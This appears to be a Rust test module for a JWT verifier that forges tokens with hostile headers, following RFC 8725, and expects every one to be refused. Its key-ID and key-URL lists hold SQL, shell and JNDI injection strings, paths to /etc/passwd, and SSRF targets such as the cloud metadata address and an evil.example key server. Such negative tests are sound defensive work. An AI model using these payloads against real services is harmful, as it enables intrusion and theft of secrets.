//! Headers that tell the reader where to find the key, or that the token is something else: RFC 8725, sections 3.10 and 3.11.

use serde_json::{Value, json};

use super::{CLAIMS, FOREIGN_KEY, Forgery, encode, forgery, signed, with_header};

/// Names of keys that lead a careless program to a file, a row or an address.
const KEY_IDS: [&str; 22] = [
    "",
    "0",
    "1",
    "forged",
    "/dev/null",
    "../../../../../../dev/null",
    "..\\..\\..\\NUL",
    "file:///dev/null",
    "/proc/sys/kernel/randomize_va_space",
    "/etc/passwd",
    "/etc/hostname",
    "%00",
    "\0",
    "key\0.pem",
    "' UNION SELECT 'secret' --",
    "1' OR '1'='1",
    "key; id",
    "| cat /etc/passwd",
    "$(id)",
    "${jndi:ldap://evil.example/a}",
    "https://evil.example/key",
    "__proto__",
];

/// Where a key may be found.
const ADDRESSES: [&str; 8] = [
    "https://evil.example/jwks.json",
    "http://127.0.0.1:8082/metrics",
    "http://169.254.169.254/latest/meta-data/",
    "file:///etc/passwd",
    "data:application/json,{\"keys\":[]}",
    "//evil.example/jwks.json",
    "gopher://127.0.0.1:6379/_INFO",
    "",
];

/// Signed by a forger who offers the key, or hopes for an empty one.
fn offered(header: &Value) -> [Forgery; 2] {
    let header = header.to_string();
    [(&FOREIGN_KEY[..], "a forger's key"), (b"", "an empty key")].map(|(key, whose)| {
        forgery(
            format!("{header} with {whose}"),
            signed(&header, CLAIMS, key),
        )
    })
}

fn keys_in_the_header() -> Vec<Value> {
    let oct = json!({ "kty": "oct", "alg": "HS512", "k": encode(FOREIGN_KEY) });
    let empty = json!({ "kty": "oct", "k": "" });
    let ec = json!({
        "kty": "EC",
        "crv": "P-256",
        "x": "f83OJ3D2xF1Bg8vub9tLe1gHMzV76e8Tus9uPHvRVEU",
        "y": "x_FEzRu9m36HLN_tue659LNpXW6pCyStikYjKIWI5a0",
    });
    let okp = json!({ "kty": "OKP", "crv": "Ed25519", "x": "11qYAYKxCrfVS_7TyWQHOg7hcvPapiMlrwIaaPcHURo" });
    let rsa = json!({ "kty": "RSA", "n": "AQAB", "e": "AQAB" });
    let jwks = [oct, empty, ec, okp, rsa, json!({ "keys": [] }), json!({})];
    let jwks = jwks.map(|jwk| json!({ "alg": "HS512", "jwk": jwk }));
    let others = [
        json!({ "alg": "HS512", "x5c": ["MIIB"] }),
        json!({ "alg": "HS512", "x5c": [] }),
        json!({ "alg": "HS512", "x5t": "AAAAAAAAAAAAAAAAAAAAAAAAAAA" }),
        json!({ "alg": "HS512", "x5t#S256": encode([0; 32]) }),
        json!({ "alg": "HS512", "k": encode(FOREIGN_KEY) }),
        json!({ "alg": "HS512", "key": encode(FOREIGN_KEY) }),
        json!({ "alg": "HS512", "secret": "secret" }),
        json!({ "alg": "HS512", "iss": "https://evil.example" }),
        json!({ "alg": "HS512", "p2s": "AAAA", "p2c": 1 }),
        json!({ "alg": "HS512", "p2s": "AAAA", "p2c": 2_147_483_647 }),
        json!({ "alg": "HS512", "epk": { "kty": "EC" }, "apu": "", "apv": "" }),
        json!({ "alg": "HS512", "iv": "", "tag": "" }),
        json!({ "alg": "HS512", "verified": true }),
        json!({ "alg": "HS512", "sub": "user", "user_id": 1 }),
    ];
    jwks.into_iter().chain(others).collect()
}

fn injections() -> Vec<Forgery> {
    let named = KEY_IDS.map(|kid| json!({ "alg": "HS512", "kid": kid }));
    let addresses = ADDRESSES.iter().flat_map(|address| {
        ["jku", "x5u"].map(|member| json!({ "alg": "HS512", member: address }))
    });
    let all = named.into_iter().chain(addresses);
    all.chain(keys_in_the_header())
        .flat_map(|header| offered(&header))
        .collect()
}

/// Headers that must be refused even with our signature.
const REFUSED: [&str; 55] = [
    // Extensions that must be understood: RFC 7515, section 4.1.11.
    r#"{"alg":"HS512","crit":[]}"#,
    r#"{"alg":"HS512","crit":["exp"]}"#,
    r#"{"alg":"HS512","crit":["exp"],"exp":1}"#,
    r#"{"alg":"HS512","crit":["alg"]}"#,
    r#"{"alg":"HS512","crit":["crit"]}"#,
    r#"{"alg":"HS512","crit":[""]}"#,
    r#"{"alg":"HS512","crit":["a","a"],"a":1}"#,
    r#"{"alg":"HS512","crit":["http://example.com/UNDEFINED"],"http://example.com/UNDEFINED":true}"#,
    r#"{"alg":"HS512","crit":"exp"}"#,
    r#"{"alg":"HS512","crit":1}"#,
    r#"{"alg":"HS512","crit":true}"#,
    r#"{"alg":"HS512","crit":{}}"#,
    r#"{"alg":"HS512","crit":[1]}"#,
    r#"{"alg":"HS512","crit":[null]}"#,
    r#"{"alg":"HS512","crit":[],"crit":["exp"]}"#,
    // A payload that is not encoded, or is compressed or encrypted: RFC 7797, RFC 7516.
    r#"{"alg":"HS512","b64":false,"crit":["b64"]}"#,
    r#"{"alg":"HS512","b64":false}"#,
    r#"{"alg":"HS512","b64":true}"#,
    r#"{"alg":"HS512","b64":"false"}"#,
    r#"{"alg":"HS512","b64":0}"#,
    r#"{"alg":"HS512","b64":null}"#,
    r#"{"alg":"HS512","b64":true,"b64":false}"#,
    r#"{"alg":"HS512","zip":"DEF"}"#,
    r#"{"alg":"HS512","zip":"GZIP"}"#,
    r#"{"alg":"HS512","zip":""}"#,
    r#"{"alg":"HS512","zip":1}"#,
    r#"{"alg":"HS512","enc":"A256GCM"}"#,
    r#"{"alg":"HS512","enc":"A256CBC-HS512"}"#,
    r#"{"alg":"HS512","enc":"none"}"#,
    r#"{"alg":"HS512","cty":"JWT"}"#,
    r#"{"alg":"HS512","cty":"json"}"#,
    r#"{"alg":"HS512","cty":1}"#,
    // Other kinds of tokens: RFC 8725, section 3.11.
    r#"{"alg":"HS512","typ":"at+jwt"}"#,
    r#"{"alg":"HS512","typ":"application/at+jwt"}"#,
    r#"{"alg":"HS512","typ":"dpop+jwt"}"#,
    r#"{"alg":"HS512","typ":"logout+jwt"}"#,
    r#"{"alg":"HS512","typ":"secevent+jwt"}"#,
    r#"{"alg":"HS512","typ":"kb+jwt"}"#,
    r#"{"alg":"HS512","typ":"JOSE"}"#,
    r#"{"alg":"HS512","typ":"JOSE+JSON"}"#,
    r#"{"alg":"HS512","typ":"JWE"}"#,
    r#"{"alg":"HS512","typ":"JWT "}"#,
    r#"{"alg":"HS512","typ":""}"#,
    r#"{"alg":"HS512","typ":1}"#,
    r#"{"alg":"HS512","typ":["JWT"]}"#,
    r#"{"alg":"HS512","typ":{}}"#,
    r#"{"alg":"HS512","typ":"JWT","typ":"JWT"}"#,
    // Members that are there and say nothing, of a wrong type, or twice.
    r#"{"alg":"HS512","crit":null}"#,
    r#"{"alg":"HS512","cty":null}"#,
    r#"{"alg":"HS512","enc":null}"#,
    r#"{"alg":"HS512","zip":null}"#,
    r#"{"alg":"HS512","typ":null}"#,
    r#"{"alg":"HS512","a":1,"a":2}"#,
    r#"{"alg":"HS512","kid":1}"#,
    r#"{"alg":"HS512","kid":"a","kid":"b"}"#,
];

pub(super) fn forgeries() -> Vec<Forgery> {
    let refused = REFUSED.iter().map(with_header);
    injections().into_iter().chain(refused).collect()
}
